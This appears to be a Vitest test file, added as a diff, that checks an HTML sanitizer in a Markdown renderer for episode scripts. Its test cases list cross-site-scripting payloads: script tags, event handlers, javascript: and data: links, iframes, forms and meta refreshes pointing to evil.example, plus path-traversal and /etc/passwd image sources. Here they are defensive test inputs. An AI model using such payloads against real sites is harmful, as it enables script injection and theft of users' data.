@@ -1,0 +1,93 @@
+// What a browser is handed of the show: whatever stands in a script, nothing of it runs, and nothing is fetched from
+// elsewhere.
+import { describe, expect, it } from 'vitest';
+import { htmlOf } from '../../src/markdown/page.ts';
+
+const PATH = 'episodes/0101/rundown/10 Opening.md';
+const page = (text: string, path = PATH) => htmlOf(path, text);
+const main = (text: string) => /<main>\n([\s\S]*)\n<\/main>/.exec(page(text))?.[1] ?? '';
+
+describe('a script as a page', () => {
+  it('reads as Markdown, without its head', () => {
+    const html = page('---\ntitle: A glove\nslug: glove\n---\n# Hello\n\nA *glove* on a railing.\n');
+    expect(html).toMatch(/^<!doctype html>/);
+    expect(html).toContain('<link rel="stylesheet" href="/page.css">');
+    expect(html).toContain('<h1>Hello</h1>');
+    expect(html).toContain('A <em>glove</em> on a railing.');
+    expect(html).not.toContain('slug: glove');
+  });
+
+  it('keeps the classes that tell speakers apart, and no other attribute of theirs', () => {
+    expect(main('<p class="host" style="color:red" onclick="steal()" data-x="1">Hi</p>')).toBe(
+      '<p class="host">Hi</p>',
+    );
+    expect(main('<div class="a"><span class="b">x</span></div>')).toBe(
+      '<div class="a"><span class="b">x</span></div>',
+    );
+  });
+
+  it.each([
+    ['a script', 'x <script>alert(1)</script> y'],
+    ['a script in capitals, unclosed', '<SCRIPT SRC=//evil.example/x.js>'],
+    ['a handler', '<img src="a.png" onerror="alert(1)">'],
+    ['a link that runs', '[x](javascript:alert(1)) <a href=" javascript:alert(1)">y</a>'],
+    ['a link that holds a page', '[x](data:text/html,<script>alert(1)</script>)'],
+    ['a picture with a script', '<svg onload="alert(1)"><script>alert(1)</script></svg>'],
+    ['mathematics', '<math><mtext><img src=x onerror=alert(1)></mtext></math>'],
+    ['a frame', '<iframe src="//evil.example" srcdoc="<script>alert(1)</script>"></iframe>'],
+    ['style', '<style>@import "//evil.example"</style><p style="background:url(//evil.example)">x</p>'],
+    ['another base', '<base href="//evil.example/">'],
+    ['a page that goes elsewhere', '<meta http-equiv="refresh" content="0;url=//evil.example">'],
+    ['a form', '<form action="//evil.example"><button formaction="//evil.example">x</button></form>'],
+    ['an object', '<object data="//evil.example"></object><embed src="//evil.example">'],
+    ['the end of a title', '</title></head><script>alert(1)</script>'],
+    ['the end of a comment', '<!-- --!><img src=x onerror=alert(1)> -->'],
+    ['a template', '<template><script>alert(1)</script></template>'],
+  ])('lets nothing run or leave: %s', (_what, text) => {
+    const html = main(text);
+    expect(html).not.toMatch(/<(?:script|svg|math|iframe|style|base|meta|form|object|embed|template)\b/i);
+    expect(html).not.toMatch(/<[^>]*\s(?:on\w+|style|srcdoc|formaction|action)\s*=/i);
+    expect(html).not.toMatch(/<[^>]*(?:javascript:|data:|evil\.example)/i);
+  });
+
+  it('shows pictures of the show alone', () => {
+    expect(main('![a](../assets/a%20b.png)')).toContain('src="/api/v1/media/episodes/0101/assets/a%20b.png"');
+    for (const elsewhere of [
+      'https://evil.example/a.png',
+      '//evil.example/a.png',
+      '/etc/passwd',
+      '\\\\evil.example\\a.png',
+      'data:image/png;base64,AAAA',
+      '../../../../up.png',
+      'file:///etc/passwd',
+      '%2e%2e/%2e%2e/%2e%2e/%2e%2e/up.png',
+      '%',
+    ])
+      expect(main(`<img alt="a" src="${elsewhere}">`), elsewhere).not.toContain('src=');
+  });
+
+  it('keeps links to other sites, and none into this server', () => {
+    expect(main('[a](https://example.org/x)')).toContain('href="https://example.org/x"');
+    expect(main('[a](/api/v1/auto) [b](10.md) <a href="//evil.example">c</a>')).not.toContain('href');
+  });
+
+  it('takes names from nobody', () => {
+    expect(main('<p id="app">x</p><a name="body">y</a>')).not.toMatch(/(?:id|name)="(?:app|body)"/);
+    expect(page('x', 'episodes/0101/</title><script>alert(1)</script>.md')).not.toContain('<script>');
+  });
+
+  it('shows what is nested deeper than anybody writes', () => {
+    expect(page(`${'<div>'.repeat(30_000)}deep`)).toContain('deep');
+  });
+});
+
+describe('other files', () => {
+  it('compiled pages are handed out as they were written', () => {
+    const html = '<!doctype html><style>p{}</style><p>Hi';
+    expect(page(html, 'episodes/0101/exports/script-host.html')).toBe(html);
+  });
+
+  it('lists are shown letter by letter', () => {
+    expect(page('a,<b>\n', 'episodes/0101/exports/media-list.csv')).toContain('<pre>a,&lt;b&gt;\n</pre>');
+  });
+});
